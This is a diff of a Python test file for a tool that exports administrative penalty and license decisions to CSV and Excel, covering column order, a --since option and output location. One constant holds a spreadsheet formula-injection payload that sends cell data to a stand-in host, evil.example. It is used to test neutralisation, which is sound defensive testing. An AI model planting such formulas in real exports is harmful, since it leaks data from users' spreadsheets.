@@ -33,23 +33,25 @@ def test_files_per_kind_and_party_with_standard_columns(root: Path, tmp_path: Pa
                            for g in ("法人及非法人组织", "自然人") for s in ("csv", "xlsx"))
     people = rows(tmp_path / "out/行政处罚-自然人-0301_2026112700.csv")
     assert list(people[0]) == [code for code, _l, _s in PENALTY_COLUMNS]
-    first = next(r for r in people if r["CF_WSH"] == "汾教科罚决字〔2021〕第3号")
+    first = next(r for r in people if r["CF_WSH"] == "汾教科罚决字〔2026〕第2号")
     assert (first["CF_XDR_MC"], first["CF_NR_FK"], first["CF_JDRQ"], first["CF_GSJZQ"]) == (
-        "程丽萍", "0.2", "2021/11/05", "2022/11/11")  # full name, 2000 元, publicity end = published + 1 year
+        "白晓军", "0.3", "2026/03/17", "2027/03/19")  # full name, 3000 元, publicity end = published + 1 year
     assert first["CF_XDR_ZJHM"] == "" and first["CF_CFJG"] == "汾川县教育科技局"
-    assert "须人工补填 CF_XDR_ZJHM（证件号码）：第 2、3、" in result.stdout
+    assert "  须人工补填 CF_XDR_ZJHM（证件号码）：第 2、3、4、5 行（仓库中不保存证件号码等信息）" in result.stdout.splitlines()
     book = load_workbook(tmp_path / "out/行政许可-自然人-0102_2026112700.xlsx")
     header = [c.value for c in book.active[1]]
     assert header == [code for code, _l, _s in LICENSE_COLUMNS]
     assert book.active.cell(2, header.index("XK_YXQZI") + 1).value == "2099/12/31"
-    assert "汾教科罚决字〔2022〕第6号 状态为「已撤销」" in result.stdout
 
 
-def test_since_and_refusal_inside_the_repository(root: Path, tmp_path: Path) -> None:
+def test_since_needs_git_history_and_the_export_stays_outside_the_repository(root: Path, tmp_path: Path) -> None:
     result = export(root, tmp_path / "out", "--since", "2024-01-01")
-    assert result.returncode == 0, result.stderr
-    dates = [r["CF_JDRQ"] for p in (tmp_path / "out").glob("行政处罚-*.csv") for r in rows(p)]
-    assert dates and all(d >= "2024/01/01" for d in dates)
+    assert result.returncode == 2 and result.stdout == ""
+    assert result.stderr == (f"用法错误：--since 按 git 提交记录判断哪些决定是在那一天以后新增或改动的，但 {root} 不在 git 仓库中，"
+                             "无法判断。请在数据仓库的检出目录中运行，或去掉 --since 导出今天正在公示的全部决定。没有导出任何文件。\n")
+    assert not (tmp_path / "out").exists()
+    later = export(root, tmp_path / "out", "--since", "2026-11-28")
+    assert later.returncode == 2 and later.stderr == "用法错误：--since 2026-11-28 晚于导出日期 2026-11-27。没有导出任何文件。\n"
     inside = export(root, root / "data/export")
     assert inside.returncode == 2 and "不能写到" in inside.stderr and "仓库以外" in inside.stderr
     assert not (root / "data/export").exists()
@@ -70,7 +72,7 @@ from generator.render.downloads import formula_like, neutralise, restore  # noqa
 from generator.staff.export import export_credit_platform  # noqa: E402
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"点击查看")'
-PERSON = "汾教科罚决字〔2021〕第3号"  # a 自然人's penalty: its file holds full names
+PERSON = "汾教科罚决字〔2026〕第2号"  # a 自然人's penalty under publicity: its file holds full names
 
 
 def cells(path: Path) -> list[tuple[str, object]]:
@@ -109,8 +111,8 @@ def shared(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 #: (dataset, file kind and code, a 自然人's decision, a 法人's decision, text fields a clerk types freely).
-DECISIONS = [("penalties", "行政处罚", "0301", PERSON, "汾教科罚决字〔2021〕第2号", PENALTY_TEXT),
-             ("licenses", "行政许可", "0102", "汾教科许决字〔2022〕第9号", "汾教科许决字〔2021〕第11号",
+DECISIONS = [("penalties", "行政处罚", "0301", PERSON, "汾教科罚决字〔2026〕第5号", PENALTY_TEXT),
+             ("licenses", "行政许可", "0102", "汾教科许决字〔2022〕第9号", "汾教科许决字〔2023〕第2号",
               ["doc_name", "certificate_name", "content", "remarks"])]
 
 
